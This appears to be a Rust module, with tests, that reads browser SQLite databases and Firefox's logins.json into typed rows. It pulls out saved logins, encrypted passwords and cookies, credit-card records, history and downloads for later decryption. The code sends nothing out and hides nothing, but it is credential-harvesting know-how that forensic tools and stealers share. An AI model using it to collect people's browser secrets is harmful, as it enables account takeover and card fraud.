//! Typed rows from browser databases and JSON stores
//!
//! Every source yields one `Result<Row, RowError>` per stored row, in fetch
//! order. A row whose columns cannot be read becomes an `Err` in place so the
//! decoder can skip it without losing its position.

use crate::error::{DecryptError, RowError};
use base64::{engine::general_purpose::STANDARD, Engine as _};
use rusqlite::types::ValueRef;
use rusqlite::{Connection, Row};
use serde::Deserialize;

/// A row type with the query that produces it.
pub trait SqlRow: Sized {
    const QUERY: &'static str;

    fn from_row(row: &Row<'_>) -> Result<Self, RowError>;
}

/// Run `R::QUERY` and convert each row. Query and stepping failures are
/// source failures; column failures are per-row.
pub fn fetch<R: SqlRow>(conn: &Connection) -> rusqlite::Result<Vec<Result<R, RowError>>> {
    let mut stmt = conn.prepare(R::QUERY)?;
    let mut rows = stmt.query([])?;
    let mut out = Vec::new();
    while let Some(row) = rows.next()? {
        out.push(R::from_row(row));
    }
    Ok(out)
}

// Browsers are loose about column affinity, so the readers accept anything
// that has an obvious meaning and reject the rest.

fn text(row: &Row<'_>, idx: usize) -> Result<String, RowError> {
    Ok(match row.get_ref(idx)? {
        ValueRef::Null => String::new(),
        ValueRef::Integer(i) => i.to_string(),
        ValueRef::Real(f) => f.to_string(),
        ValueRef::Text(t) | ValueRef::Blob(t) => String::from_utf8_lossy(t).into_owned(),
    })
}

fn blob(row: &Row<'_>, idx: usize) -> Result<Vec<u8>, RowError> {
    match row.get_ref(idx)? {
        ValueRef::Null => Ok(Vec::new()),
        ValueRef::Blob(b) | ValueRef::Text(b) => Ok(b.to_vec()),
        _ => Err(RowError::new(format!("column {} is not a blob", idx))),
    }
}

fn int(row: &Row<'_>, idx: usize) -> Result<i64, RowError> {
    match row.get_ref(idx)? {
        ValueRef::Null => Ok(0),
        ValueRef::Integer(i) => Ok(i),
        ValueRef::Real(f) => Ok(f as i64),
        ValueRef::Text(t) => std::str::from_utf8(t)
            .ok()
            .and_then(|s| s.trim().parse().ok())
            .ok_or_else(|| RowError::new(format!("column {} is not an integer", idx))),
        ValueRef::Blob(_) => Err(RowError::new(format!("column {} is not an integer", idx))),
    }
}

fn flag(row: &Row<'_>, idx: usize) -> Result<bool, RowError> {
    Ok(int(row, idx)? != 0)
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebkitLoginRow {
    pub origin_url: String,
    pub username: String,
    pub password: Vec<u8>,
    pub date_created: i64,
}

impl SqlRow for WebkitLoginRow {
    const QUERY: &'static str = "SELECT origin_url, username_value, password_value, date_created FROM logins";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            origin_url: text(row, 0)?,
            username: text(row, 1)?,
            password: blob(row, 2)?,
            date_created: int(row, 3)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebkitCookieRow {
    pub name: String,
    pub encrypted_value: Vec<u8>,
    pub host: String,
    pub path: String,
    pub creation_utc: i64,
    pub expires_utc: i64,
    pub is_secure: bool,
    pub is_http_only: bool,
    pub has_expires: bool,
    pub is_persistent: bool,
}

impl SqlRow for WebkitCookieRow {
    const QUERY: &'static str = "SELECT name, encrypted_value, host_key, path, creation_utc, expires_utc, \
         is_secure, is_httponly, has_expires, is_persistent FROM cookies";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            name: text(row, 0)?,
            encrypted_value: blob(row, 1)?,
            host: text(row, 2)?,
            path: text(row, 3)?,
            creation_utc: int(row, 4)?,
            expires_utc: int(row, 5)?,
            is_secure: flag(row, 6)?,
            is_http_only: flag(row, 7)?,
            has_expires: flag(row, 8)?,
            is_persistent: flag(row, 9)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebkitHistoryRow {
    pub url: String,
    pub title: String,
    pub visit_count: i64,
    pub last_visit_time: i64,
}

impl SqlRow for WebkitHistoryRow {
    const QUERY: &'static str = "SELECT url, title, visit_count, last_visit_time FROM urls";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            url: text(row, 0)?,
            title: text(row, 1)?,
            visit_count: int(row, 2)?,
            last_visit_time: int(row, 3)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebkitDownloadRow {
    pub target_path: String,
    pub tab_url: String,
    pub total_bytes: i64,
    pub start_time: i64,
    pub end_time: i64,
    pub mime_type: String,
}

impl SqlRow for WebkitDownloadRow {
    const QUERY: &'static str =
        "SELECT target_path, tab_url, total_bytes, start_time, end_time, mime_type FROM downloads";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            target_path: text(row, 0)?,
            tab_url: text(row, 1)?,
            total_bytes: int(row, 2)?,
            start_time: int(row, 3)?,
            end_time: int(row, 4)?,
            mime_type: text(row, 5)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebkitCardRow {
    pub guid: String,
    pub name_on_card: String,
    pub expiration_month: String,
    pub expiration_year: String,
    pub card_number: Vec<u8>,
}

impl SqlRow for WebkitCardRow {
    const QUERY: &'static str =
        "SELECT guid, name_on_card, expiration_month, expiration_year, card_number_encrypted FROM credit_cards";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            guid: text(row, 0)?,
            name_on_card: text(row, 1)?,
            expiration_month: text(row, 2)?,
            expiration_year: text(row, 3)?,
            card_number: blob(row, 4)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeckoHistoryRow {
    pub id: i64,
    pub url: String,
    pub last_visit_date: i64,
    pub title: String,
    pub visit_count: i64,
}

impl SqlRow for GeckoHistoryRow {
    const QUERY: &'static str = "SELECT id, url, last_visit_date, title, visit_count FROM moz_places";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            id: int(row, 0)?,
            url: text(row, 1)?,
            last_visit_date: int(row, 2)?,
            title: text(row, 3)?,
            visit_count: int(row, 4)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeckoBookmarkRow {
    pub id: i64,
    pub fk: i64,
    pub bookmark_type: i64,
    pub date_added: i64,
    pub title: String,
    /// 0 for the places root
    pub parent: i64,
    pub url: String,
}

impl SqlRow for GeckoBookmarkRow {
    const QUERY: &'static str = "SELECT b.id, b.fk, b.type, b.dateAdded, b.title, b.parent, p.url \
         FROM moz_bookmarks b LEFT JOIN moz_places p ON b.fk = p.id";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            id: int(row, 0)?,
            fk: int(row, 1)?,
            bookmark_type: int(row, 2)?,
            date_added: int(row, 3)?,
            title: text(row, 4)?,
            parent: int(row, 5)?,
            url: text(row, 6)?,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeckoCookieRow {
    pub name: String,
    pub value: String,
    pub host: String,
    pub path: String,
    pub creation_time: i64,
    pub expiry: i64,
    pub is_secure: bool,
    pub is_http_only: bool,
}

impl SqlRow for GeckoCookieRow {
    const QUERY: &'static str =
        "SELECT name, value, host, path, creationTime, expiry, isSecure, isHttpOnly FROM moz_cookies";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        Ok(Self {
            name: text(row, 0)?,
            value: text(row, 1)?,
            host: text(row, 2)?,
            path: text(row, 3)?,
            creation_time: int(row, 4)?,
            expiry: int(row, 5)?,
            is_secure: flag(row, 6)?,
            is_http_only: flag(row, 7)?,
        })
    }
}

/// One download, folded from its `moz_annos` rows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeckoDownloadRow {
    pub place_id: i64,
    pub target_path: String,
    pub url: String,
    pub total_bytes: i64,
    pub date_added: i64,
    /// Unix milliseconds, from the metadata annotation
    pub end_time: i64,
}

#[derive(Debug, Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct DownloadMeta {
    #[serde(default)]
    file_size: i64,
    #[serde(default)]
    end_time: i64,
}

impl GeckoDownloadRow {
    /// Split the concatenated annotation content into the destination file
    /// URI and the JSON metadata blob. `GROUP_CONCAT` order is unspecified,
    /// so either may come first.
    fn parse_content(content: &str) -> Result<(String, DownloadMeta), RowError> {
        let (uri, meta) = if content.starts_with('{') {
            match content.rfind(",file://") {
                Some(pos) => (&content[pos + 1..], Some(&content[..pos])),
                None => ("", Some(content)),
            }
        } else {
            match content.find(",{") {
                Some(pos) => (&content[..pos], Some(&content[pos + 1..])),
                None => (content, None),
            }
        };
        let meta = match meta {
            Some(json) => serde_json::from_str(json)
                .map_err(|e| RowError::new(format!("download metadata is not valid JSON: {}", e)))?,
            None => DownloadMeta::default(),
        };
        let path = uri.strip_prefix("file://").unwrap_or(uri).to_string();
        Ok((path, meta))
    }
}

impl SqlRow for GeckoDownloadRow {
    const QUERY: &'static str = "SELECT place_id, GROUP_CONCAT(content), url, dateAdded FROM \
         (SELECT * FROM moz_annos INNER JOIN moz_places ON moz_annos.place_id=moz_places.id) t \
         GROUP BY place_id";

    fn from_row(row: &Row<'_>) -> Result<Self, RowError> {
        let (target_path, meta) = Self::parse_content(&text(row, 1)?)?;
        Ok(Self {
            place_id: int(row, 0)?,
            target_path,
            url: text(row, 2)?,
            total_bytes: meta.file_size,
            date_added: int(row, 3)?,
            end_time: meta.end_time,
        })
    }
}

/// One entry of `logins.json`, with the secret fields base64-decoded.
///
/// A field that is not base64 stays attached to its row as an error, so the
/// record survives with that one field blanked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeckoLoginRow {
    pub hostname: String,
    pub encrypted_username: Result<Vec<u8>, DecryptError>,
    pub encrypted_password: Result<Vec<u8>, DecryptError>,
    pub time_created: i64,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawLogin {
    #[serde(default)]
    hostname: String,
    encrypted_username: String,
    encrypted_password: String,
    #[serde(default)]
    time_created: i64,
}

/// Parse `logins.json`. A document that is not JSON fails as a whole; a
/// single bad entry only fails its own row.
pub fn parse_gecko_logins(content: &str) -> Result<Vec<Result<GeckoLoginRow, RowError>>, serde_json::Error> {
    let doc: serde_json::Value = serde_json::from_str(content)?;
    let entries = match doc.get("logins").and_then(|l| l.as_array()) {
        Some(entries) => entries,
        None => return Ok(Vec::new()),
    };

    Ok(entries.iter().map(login_from_json).collect())
}

fn login_from_json(value: &serde_json::Value) -> Result<GeckoLoginRow, RowError> {
    let raw = RawLogin::deserialize(value).map_err(|e| RowError::new(format!("login entry: {}", e)))?;
    let decode = |s: &str| STANDARD.decode(s).map_err(|_| DecryptError::MalformedCiphertext);
    Ok(GeckoLoginRow {
        encrypted_username: decode(&raw.encrypted_username),
        encrypted_password: decode(&raw.encrypted_password),
        hostname: raw.hostname,
        time_created: raw.time_created,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn memory_db(schema: &str) -> Connection {
        let conn = Connection::open_in_memory().unwrap();
        conn.execute_batch(schema).unwrap();
        conn
    }

    #[test]
    fn test_fetch_webkit_logins_in_order() {
        let conn = memory_db(
            "CREATE TABLE logins (origin_url TEXT, username_value TEXT, password_value BLOB, date_created INTEGER);
             INSERT INTO logins VALUES ('https://a.example', 'alice', x'763130', 13260000000000000);
             INSERT INTO logins VALUES ('https://b.example', NULL, NULL, NULL);",
        );
        let rows = fetch::<WebkitLoginRow>(&conn).unwrap();
        assert_eq!(rows.len(), 2);
        let first = rows[0].as_ref().unwrap();
        assert_eq!(first.origin_url, "https://a.example");
        assert_eq!(first.password, b"v10");
        let second = rows[1].as_ref().unwrap();
        assert_eq!(second.username, "");
        assert!(second.password.is_empty());
        assert_eq!(second.date_created, 0);
    }

    #[test]
    fn test_bad_integer_column_is_row_error() {
        let conn = memory_db(
            "CREATE TABLE urls (url TEXT, title TEXT, visit_count, last_visit_time);
             INSERT INTO urls VALUES ('https://ok.example', 'ok', 3, 1);
             INSERT INTO urls VALUES ('https://bad.example', 'bad', 'lots', 1);
             INSERT INTO urls VALUES ('https://num.example', 'num', '7', 1);",
        );
        let rows = fetch::<WebkitHistoryRow>(&conn).unwrap();
        assert!(rows[0].is_ok());
        assert!(rows[1].is_err());
        assert_eq!(rows[2].as_ref().unwrap().visit_count, 7);
    }

    #[test]
    fn test_missing_table_is_source_error() {
        let conn = memory_db("CREATE TABLE other (x INTEGER);");
        assert!(fetch::<WebkitCookieRow>(&conn).is_err());
    }

    #[test]
    fn test_gecko_download_content_split() {
        let (path, meta) = GeckoDownloadRow::parse_content(
            r#"file:///home/u/Downloads/a.zip,{"state":1,"endTime":1609459200000,"fileSize":2048}"#,
        )
        .unwrap();
        assert_eq!(path, "/home/u/Downloads/a.zip");
        assert_eq!(meta.file_size, 2048);
        assert_eq!(meta.end_time, 1_609_459_200_000);

        let (path, meta) = GeckoDownloadRow::parse_content("file:///tmp/b.bin").unwrap();
        assert_eq!(path, "/tmp/b.bin");
        assert_eq!(meta.file_size, 0);

        assert!(GeckoDownloadRow::parse_content("file:///tmp/c,{not json").is_err());
    }

    #[test]
    fn test_gecko_download_content_metadata_first() {
        let (path, meta) = GeckoDownloadRow::parse_content(
            r#"{"state":1,"endTime":1609459200000,"fileSize":4096},file:///home/u/Downloads/b,c.tar"#,
        )
        .unwrap();
        assert_eq!(path, "/home/u/Downloads/b,c.tar");
        assert_eq!(meta.file_size, 4096);
        assert_eq!(meta.end_time, 1_609_459_200_000);

        let (path, meta) = GeckoDownloadRow::parse_content(r#"{"fileSize":1}"#).unwrap();
        assert_eq!(path, "");
        assert_eq!(meta.file_size, 1);
    }

    #[test]
    fn test_gecko_downloads_query() {
        let conn = memory_db(
            "CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT);
             CREATE TABLE moz_annos (id INTEGER PRIMARY KEY, place_id INTEGER, content TEXT, dateAdded INTEGER);
             INSERT INTO moz_places VALUES (7, 'https://dl.example/a.zip');
             INSERT INTO moz_annos VALUES (1, 7, 'file:///tmp/a.zip', 1609459200000000);
             INSERT INTO moz_annos VALUES (2, 7, '{\"fileSize\":10,\"endTime\":1609459201000}', 1609459200000000);",
        );
        let rows = fetch::<GeckoDownloadRow>(&conn).unwrap();
        assert_eq!(rows.len(), 1);
        let row = rows[0].as_ref().unwrap();
        assert_eq!(row.place_id, 7);
        assert_eq!(row.target_path, "/tmp/a.zip");
        assert_eq!(row.url, "https://dl.example/a.zip");
        assert_eq!(row.total_bytes, 10);
    }

    #[test]
    fn test_parse_gecko_logins() {
        let json = r#"{
            "nextId": 3,
            "logins": [
                {"hostname": "https://a.example", "encryptedUsername": "AQID", "encryptedPassword": "BAUG", "timeCreated": 1609459200000},
                {"hostname": "https://b.example", "encryptedUsername": "!!!", "encryptedPassword": "BAUG"},
                {"hostname": "https://c.example"}
            ]
        }"#;
        let rows = parse_gecko_logins(json).unwrap();
        assert_eq!(rows.len(), 3);
        let first = rows[0].as_ref().unwrap();
        assert_eq!(first.encrypted_username, Ok(vec![1, 2, 3]));
        assert_eq!(first.time_created, 1_609_459_200_000);

        let second = rows[1].as_ref().unwrap();
        assert_eq!(second.hostname, "https://b.example");
        assert_eq!(second.encrypted_username, Err(DecryptError::MalformedCiphertext));
        assert_eq!(second.encrypted_password, Ok(vec![4, 5, 6]));

        // no secret fields at all is a malformed entry
        assert!(rows[2].is_err());
    }

    #[test]
    fn test_parse_gecko_logins_non_object_entry() {
        let rows = parse_gecko_logins(r#"{"logins": [42, {"encryptedUsername": "", "encryptedPassword": ""}]}"#).unwrap();
        assert!(rows[0].is_err());
        assert_eq!(rows[1].as_ref().unwrap().encrypted_username, Ok(Vec::new()));
    }

    #[test]
    fn test_parse_gecko_logins_empty_and_invalid() {
        assert!(parse_gecko_logins(r#"{"nextId": 1}"#).unwrap().is_empty());
        assert!(parse_gecko_logins("not json").is_err());
    }
}
